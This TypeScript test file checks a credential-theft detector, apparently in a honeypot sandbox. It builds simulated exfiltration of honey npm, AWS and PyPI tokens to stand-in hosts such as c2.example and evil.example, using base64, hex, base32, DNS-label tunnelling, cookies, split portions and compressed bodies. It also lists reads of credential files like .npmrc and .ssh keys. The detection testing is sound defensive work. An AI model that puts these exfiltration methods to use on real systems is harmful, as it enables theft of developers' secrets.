import assert from "node:assert/strict";
import test from "node:test";
import { brotliCompressSync, gzipSync } from "node:zlib";
import type { TraceEvent } from "@thymus/contracts";
import type { NetworkExchange, PublishedPackage } from "../../chamber/chamber.ts";
import { createWorld } from "../create.ts";
import { findThefts } from "./find.ts";
import { base32 } from "./patterns.ts";

const world = await createWorld("thefts");
const secretOf = (kind: string) => world.honey.find((one) => one.kind === kind)!.needles[0]!;
const npm = secretOf("npm-token");
const aws = secretOf("aws-key");

let time = 0;
function exchange(
  host: string,
  sent: string | Uint8Array,
  more: Partial<NetworkExchange> = {},
): NetworkExchange {
  const bytes = typeof sent === "string" ? Buffer.from(sent, "latin1") : sent;
  const first = /^[A-Z]+ \S+/.exec(Buffer.from(bytes).toString("latin1"))?.[0] ?? "data";
  return {
    ...{ t: ++time, protocol: "https", name: host, address: "203.0.113.9", port: 443, what: first },
    ...{ bytesOut: bytes.length, bytesIn: 0, excerpt: "", sent: bytes, ...more },
  };
}
const post = (host: string, body: string | Uint8Array, headers = "") =>
  exchange(
    host,
    Buffer.concat([
      Buffer.from(`POST /collect HTTP/1.1\r\nHost: ${host}\r\n${headers}\r\n`),
      typeof body === "string" ? Buffer.from(body) : body,
    ]),
  );
const question = (name: string) => {
  const labels = name.split(".").flatMap((label) => [Buffer.of(label.length), Buffer.from(label)]);
  const message = Buffer.concat([Buffer.alloc(12), ...labels, Buffer.from([0, 0, 1, 0, 1])]);
  return exchange(name.toLowerCase(), message, { protocol: "dns", address: "", port: 53, what: `A ${name}` });
};
const sent = (...network: NetworkExchange[]) => findThefts(world, [], network, []);
const brief = (list: ReturnType<typeof sent>) => list.map(({ credential, how, to }) => [credential, how, to]);

test("a token that leaves is told with where it went and how it was hidden", () => {
  const [theft, ...others] = sent(post("drop.example", `t=${Buffer.from(npm).toString("base64")}`));
  assert.deepEqual(others, []);
  assert.equal(theft?.how, "sent");
  assert.equal(theft?.to, "drop.example");
  assert.equal(theft?.rightful, false);
  assert.equal(theft?.t, time);
  assert.match(
    theft!.evidence,
    /npm-token of \/home\/sam\/\.npmrc left for drop\.example:443 .* \(body\), as base64$/,
  );
});

test("a token at its own service is used; anywhere else, also as authorization, it is sent", () => {
  const header = `Authorization: Bearer ${npm}\r\n`;
  assert.deepEqual(brief(sent(post("registry.npmjs.org", "{}", header))), [
    ["npm-token", "used", "registry.npmjs.org"],
  ]);
  assert.deepEqual(brief(sent(post("registry.npmjs.org.evil.example", "{}", header)))[0]?.slice(0, 2), [
    "npm-token",
    "sent",
  ]);
  const basic = `Authorization: Basic ${Buffer.from(`__token__:${secretOf("pypi-token")}`).toString("base64")}\r\n`;
  assert.deepEqual(brief(sent(post("upload.pypi.org", "", basic))), [
    ["pypi-token", "used", "upload.pypi.org"],
  ]);
  // Somebody else's secret in what is published is a theft.
  assert.deepEqual(brief(sent(post("registry.npmjs.org", JSON.stringify({ readme: aws }), header))), [
    ["npm-token", "used", "registry.npmjs.org"],
    ["aws-key", "sent", "registry.npmjs.org"],
  ]);
});

test("a published package tells whose token came with it", () => {
  const published: PublishedPackage = {
    ...{ t: 2, ecosystem: "npm", name: "left", version: "1.0.1", token: npm, accepted: true },
    ...{ file: "/nowhere", size: 1, before: "1.0.0" },
  };
  assert.deepEqual(brief(findThefts(world, [], [], [published])), [
    ["npm-token", "used", "registry.npmjs.org"],
  ]);
  assert.deepEqual(findThefts(world, [], [], [{ ...published, token: "npm_other" }]), []);
});

test("what is sent in portions is put together, whatever carries it", () => {
  const encoded = Buffer.from(`NPM_TOKEN=${npm}`).toString("base64url");
  const portions = encoded.match(/.{1,7}/g)!;
  const carriers: ((portion: string, at: number) => NetworkExchange)[] = [
    (portion) => post("c2.example", portion),
    (portion, at) =>
      exchange("c2.example", `GET /i?n=${at}&d=${portion} HTTP/1.1\r\nHost: c2.example\r\n\r\n`),
    (portion) => exchange("c2.example", `GET /img/${portion} HTTP/1.1\r\nHost: c2.example\r\n\r\n`),
    (portion, at) => post("c2.example", JSON.stringify({ n: at, d: portion })),
    (portion) => exchange("c2.example", `GET / HTTP/1.1\r\nHost: c2.example\r\nCookie: ${portion}\r\n\r\n`),
    (portion) => exchange("c2.example", portion, { protocol: "tcp" }),
    (portion) =>
      post(
        "c2.example",
        `--x\r\nContent-Disposition: form-data; name="f"\r\n\r\n${portion}\r\n--x--`,
        "Content-Type: multipart/form-data; boundary=x\r\n",
      ),
    (portion) => question(`${portion.replaceAll("=", "")}.c2.example`),
    (portion, at) => question(`${at}.${portion}.c2.example`),
  ];
  for (const [index, carry] of carriers.entries()) {
    const list = sent(...portions.map(carry));
    assert.deepEqual(brief(list), [["npm-token", "sent", "c2.example"]], `carrier ${index}`);
    assert.match(list[0]!.evidence, /in \d+ portions$/);
  }
});

test("names that were asked for carry secrets in hex, base32 and, where its case is lost, base64", () => {
  const hex = Buffer.from(npm)
    .toString("hex")
    .match(/.{1,40}/g)!;
  assert.deepEqual(brief(sent(...hex.map((label) => question(`${label}.x.evil.example`)))), [
    ["npm-token", "sent", "evil.example"],
  ]);
  const text = base32(Buffer.from(npm))
    .toLowerCase()
    .match(/.{1,30}/g)!;
  assert.deepEqual(brief(sent(question(`${text.join(".")}.evil.example`))), [
    ["npm-token", "sent", "evil.example"],
  ]);
  const lost = Buffer.from(npm).toString("base64").replaceAll("=", "").toLowerCase();
  const name = `${lost.slice(0, 50)}.${lost.slice(50)}.evil.example`.replace("..", ".");
  const plain = exchange(name, new Uint8Array(0), { protocol: "dns", port: 53, address: "" });
  assert.deepEqual(brief(sent(plain)), [["npm-token", "sent", "evil.example"]]);
});

test("compressed and chunked bodies are undone", () => {
  const json = JSON.stringify({ aws, env: "x".repeat(50) });
  assert.deepEqual(brief(sent(post("a.example", gzipSync(json)))), [["aws-key", "sent", "a.example"]]);
  assert.deepEqual(brief(sent(post("b.example", "1"), post("b.example", brotliCompressSync(json)))), [
    ["aws-key", "sent", "b.example"],
  ]);
  const halves = [json.slice(0, 30), json.slice(30)];
  const chunks = `${halves.map((half) => `${half.length.toString(16)}\r\n${half}\r\n`).join("")}0\r\n\r\n`;
  assert.deepEqual(brief(sent(post("c.example", chunks, "Transfer-Encoding: chunked\r\n"))), [
    ["aws-key", "sent", "c.example"],
  ]);
});

test("reads are told by absolute, relative and home paths; a shell's own history is none", () => {
  const event = (path: string, comm = "cat"): TraceEvent => ({ t: 1, pid: 7, comm, what: "open-read", path });
  const read = (...events: TraceEvent[]) =>
    findThefts(world, events, [], []).map(({ how, path, rightful }) => [how, path, rightful]);
  assert.deepEqual(read(event("/home/sam/.npmrc")), [["read", "/home/sam/.npmrc", false]]);
  assert.deepEqual(read(event("../.aws/credentials")), [["read", "/home/sam/.aws/credentials", false]]);
  assert.deepEqual(read(event("~/.netrc")), [["read", "/home/sam/.netrc", false]]);
  assert.deepEqual(read(event("/proc/self/root/home/sam/./.ssh/id_ed25519")), [
    ["read", "/home/sam/.ssh/id_ed25519", false],
  ]);
  assert.deepEqual(read(event("hosts.yml")), [["read", "/home/sam/.config/gh/hosts.yml", false]]);
  assert.deepEqual(read(event("/home/sam/.npmrc", "npm install")), [["read", "/home/sam/.npmrc", true]]);
  assert.deepEqual(read(event("/home/sam/.bash_history", "bash"), event("config"), event("/etc/passwd")), []);
  assert.deepEqual(read({ ...event("/home/sam/.npmrc"), what: "open-write" }), []);
});

test("ordinary traffic is no theft", () => {
  const update = exchange(
    "deb.debian.org",
    "GET /debian/dists/stable/InRelease HTTP/1.1\r\nHost: deb.debian.org\r\n\r\n",
  );
  const install = exchange(
    "registry.npmjs.org",
    "GET /left-pad HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\n",
  );
  const ownPackage = world.packages.map((one) => post("backup.example", one.file.content));
  const harmless = world.files
    .filter((file) => !world.honey.some((one) => one.path === file.path))
    .map((file) => post("backup.example", file.content));
  assert.deepEqual(sent(update, install, question("registry.npmjs.org"), ...ownPackage, ...harmless), []);
});

test("an archive of the whole home gives every credential away", () => {
  const all = gzipSync(Buffer.concat(world.files.map((file) => Buffer.from(file.content))));
  const paths = new Set(sent(post("c2.example", all)).map((theft) => theft.path));
  assert.deepEqual(
    world.honey.filter((one) => !paths.has(one.path)).map((one) => one.path),
    [],
  );
});
